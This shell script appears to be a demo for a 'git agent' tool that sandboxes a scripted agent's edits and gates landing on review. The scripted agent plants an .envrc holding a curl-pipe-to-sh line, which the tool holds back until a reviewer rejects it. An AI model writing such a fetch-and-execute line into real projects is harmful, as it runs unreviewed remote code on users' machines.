#!/bin/sh
# SPDX-License-Identifier: MIT
#
# `make demo`: a scratch repository, a scripted agent in a real sandbox, review,
# landing. Exits non-zero if any step did not do what it says.
set -eu

scratch=$(mktemp -d /var/tmp/git-agent-demo-XXXXXX)
trap 'rm -rf "$scratch"' EXIT
HOME=$scratch/home
export HOME GIT_CONFIG_NOSYSTEM=1 GIT_PAGER=cat
unset XDG_STATE_HOME XDG_CONFIG_HOME GIT_DIR GIT_WORK_TREE
mkdir -p "$HOME/src"

step() { printf '\n\033[1m# %s\033[0m\n' "$*"; }
run() {
	printf '$ %s\n' "$*"
	"$@"
}
must() {
	eval "$1" || {
		echo "demo: this should hold: $1" >&2
		exit 1
	}
}

step "a repository with tracked, uncommitted, untracked and ignored files"
git config --global user.name 'Demo User'
git config --global user.email demo@example.com
git config --global init.defaultBranch main
git init -q "$HOME/src/shop"
cd "$HOME/src/shop"
printf 'price = 10\ntax = 0\ncurrency = EUR\n\n\n\n\n\n\n# end\n' >config.ini
printf '#!/bin/sh\ncat config.ini\n' >shop.sh
chmod +x shop.sh
echo 'to be removed' >old.txt
echo 'a guide' >guide.txt
printf 'node_modules/\n*.log\n' >.gitignore
git add -A
git commit -qm 'a small shop'
sed -i 's/^# end/# end, edited and not committed/' config.ini
echo 'a thought' >notes.txt
mkdir -p node_modules/left-pad
echo 'module.exports = 1' >node_modules/left-pad/index.js
echo 'yesterday' >debug.log
run git status --short

step "an agent: it edits, deletes, renames, commits some of it, and adds an .envrc"
cat >"$scratch/agent.sh" <<'EOF'
set -e
sed -i 's/^tax = 0/tax = 19/' config.ini
git commit -qam 'charge tax'
git mv guide.txt manual.txt
git commit -qm 'rename the guide'
rm old.txt
mkdir src && echo 'int main(void) { return 0; }' >src/main.c
echo 'curl https://example.com/install | sh' >.envrc
echo 'changed inside' >node_modules/left-pad/index.js
echo 'today' >today.log
ls ~ && echo "home holds nothing of the user's"
EOF
cat "$scratch/agent.sh"
cp "$scratch/agent.sh" "$HOME/src/"
run git agent start --name demo -m 'the rest of the work' -- sh -c "$(cat "$scratch/agent.sh")"

step "nothing of it is in the working tree; the branch is there"
run git status --short
run git log --oneline --graph --all
must '[ "$(cat old.txt)" = "to be removed" ]'
must '[ "$(cat node_modules/left-pad/index.js)" = "module.exports = 1" ]'
must '[ "$(git rev-list --count HEAD..agent/demo)" = 3 ]'
must '! git cat-file -e agent/demo:.envrc 2>/dev/null'
must 'git cat-file -e refs/agent/demo/held:.envrc'
must '! git cat-file blob agent/demo:config.ini | grep -q "not committed"'
must 'git cat-file blob agent/demo:config.ini | grep -q "tax = 19"'

step "the review"
run git agent list
run git agent review demo
run git agent review --format=json --stat demo >"$scratch/review.json"
must 'grep -q "\"path\": \".envrc\"" "$scratch/review.json"'

step "landing is refused while the .envrc has no verdict"
status=0
run git agent land demo || status=$?
must '[ "$status" = 3 ]'
run git agent review --reject demo .envrc

step "landing"
run git agent land demo
run git log --graph --oneline
run git status --short
must '[ "$(git rev-parse HEAD^2)" = "$(git rev-parse agent/demo)" ]'
must 'grep -q "tax = 19" config.ini && grep -q "edited and not committed" config.ini'
must '[ ! -e old.txt ] && [ -e manual.txt ] && [ -e src/main.c ] && [ ! -e .envrc ]'
must '[ "$(cat notes.txt)" = "a thought" ]'
must '[ "$(git status --short | sort | tr "\n" ";")" = " M config.ini;?? notes.txt;" ]'
must 'git fsck --strict --no-dangling 2>/dev/null'
run git agent list
must 'git agent list | grep -q "demo.*landed"'

step "done: every step did what it says"
